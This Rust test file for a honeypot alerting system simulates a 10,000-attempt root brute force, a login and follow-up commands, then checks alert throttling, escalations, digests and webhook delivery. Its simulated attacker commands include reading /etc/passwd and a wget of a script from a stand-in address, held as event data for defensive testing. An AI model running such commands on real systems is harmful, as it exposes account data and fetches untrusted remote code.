//! A brute force of 10,000 attempts from one source, then a login and
//! commands, yields a handful of alerts — first sight, escalations,
//! digests — delivered to a real HTTPS receiver, and every suppressed
//! attempt is counted in a digest.
#![allow(clippy::unwrap_used)]

mod common;

use std::time::Duration;

use common::{event, rig, until, Receiver, Rig};
use decnet_alerts::delivery::history::DeliveryState;
use decnet_alerts::{AlertKind, Stage};
use decnet_bus::{Bus, Envelope, MemoryBus};
use decnet_core::EventKind;
use serde_json::json;

fn hook_ini(rx: &Receiver) -> String {
    format!(
        "[alerts]\nwindow = 5m\nretry_base = 10ms\n[alerts.hook]\ntype = webhook\nurl = {}\nsecret = brute-force-secret-0123\nca_file = {}\n",
        rx.url("/h"),
        rx.identity.ca_file.display()
    )
}

fn attack(bus: &MemoryBus, ips: &[&str]) -> u64 {
    let mut n = 0;
    for i in 0..10_000usize {
        let ip = ips[i % ips.len()];
        bus.publish_event(event(
            EventKind::AuthAttempt,
            ip,
            json!({"username": "root", "secret_kind": "password", "secret_printable": format!("pw{i}"), "success": false}),
        ));
        n += 1;
    }
    bus.publish_event(event(
        EventKind::AuthAttempt,
        ips[0],
        json!({"username": "root", "success": true}),
    ));
    for c in [
        "uname -a",
        "id",
        "cat /etc/passwd",
        "wget http://203.0.113.99/x.sh",
        "ls -la",
    ] {
        bus.publish_event(event(
            EventKind::Command,
            ips[0],
            json!({"command": c, "user": "root"}),
        ));
    }
    n + 6
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn ten_thousand_attempts_then_login_and_commands_is_a_handful() {
    let rx = Receiver::start().await;
    let Rig {
        bus,
        clock,
        h,
        dir: _spool,
    } = rig(&hook_ini(&rx)).await;
    let sent = attack(&bus, &["203.0.113.50"]);
    until("all events read", 30, || h.stats().received >= sent).await;
    // First sight and the two escalations go out at once.
    rx.wait_for(3, 20).await;
    assert_eq!(h.history(100, 0).total, 3);
    // The window ends: one digest per (rule, source) that suppressed something.
    clock.advance(Duration::from_secs(301));
    until("digests", 10, || h.history(100, 0).total == 5).await;
    let reqs = rx.wait_for(5, 20).await;
    until("delivery states", 10, || {
        h.history(100, 0)
            .data
            .iter()
            .all(|r| r.deliveries.iter().all(|d| d.state == DeliveryState::Sent))
    })
    .await;

    let page = h.history(100, 0);
    let mut alerts: Vec<_> = page.data.iter().map(|r| r.alert.clone()).collect();
    alerts.reverse();
    let summary: Vec<(String, &str)> = alerts
        .iter()
        .map(|a| (a.rule.clone(), a.kind.name()))
        .collect();
    assert_eq!(
        summary,
        vec![
            ("auth_attempt".to_string(), "first"),
            ("login_success".to_string(), "escalation"),
            ("command_executed".to_string(), "escalation"),
            ("auth_attempt".to_string(), "digest"),
            ("command_executed".to_string(), "digest"),
        ]
    );
    assert_eq!(
        alerts[1].kind,
        AlertKind::Escalation {
            from: Some(Stage::Auth)
        }
    );
    assert_eq!(
        alerts[2].kind,
        AlertKind::Escalation {
            from: Some(Stage::Login)
        }
    );
    let counted: u64 = alerts.iter().map(|a| a.hits()).sum();
    assert_eq!(
        counted, sent,
        "every event is an alert or counted in a digest"
    );
    let AlertKind::Digest { suppressed, .. } = alerts[3].kind else {
        panic!()
    };
    assert_eq!(suppressed, 9_999);
    let AlertKind::Digest { suppressed, .. } = alerts[4].kind else {
        panic!()
    };
    assert_eq!(suppressed, 4);

    let ids: Vec<String> = reqs
        .iter()
        .filter_map(|r| r.header("x-decnet-delivery"))
        .collect();
    for a in &alerts {
        assert!(ids.contains(&a.id.to_string()), "alert {} delivered", a.id);
    }
    let st = h.stats();
    assert_eq!(st.bus_dropped, 0);
    assert_eq!(
        (st.noise.hits, st.noise.suppressed, st.noise.digests),
        (sent, sent - 3, 2)
    );
    h.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_identity_spread_over_addresses_is_throttled_as_one() {
    let rx = Receiver::start().await;
    let Rig {
        bus,
        clock,
        h,
        dir: _spool,
    } = rig(&hook_ini(&rx)).await;
    let ips = ["192.0.2.11", "192.0.2.12", "192.0.2.13", "192.0.2.14"];
    bus.publish(Envelope::json(
        "identity.formed",
        "formed",
        json!({"identity_id": "0190f000-0000-7000-8000-0000000000aa", "members": ips}),
    ));
    let sent = attack(&bus, &ips) + 1;
    until("all events read", 30, || h.stats().received >= sent).await;
    clock.advance(Duration::from_secs(301));
    // new_identity + first + 2 escalations + 2 digests.
    until("alerts", 10, || h.history(100, 0).total == 6).await;
    let page = h.history(100, 0);
    let digests: Vec<u64> = page
        .data
        .iter()
        .filter_map(|r| match r.alert.kind {
            AlertKind::Digest { suppressed, .. } => Some(suppressed),
            _ => None,
        })
        .collect();
    assert!(digests.contains(&9_999), "{digests:?}");
    assert!(page.data.iter().any(|r| r.alert.rule == "new_identity"));
    assert!(page
        .data
        .iter()
        .filter(|r| r.alert.rule == "auth_attempt")
        .all(|r| r.alert.identity.is_some()));
    h.shutdown().await;
}
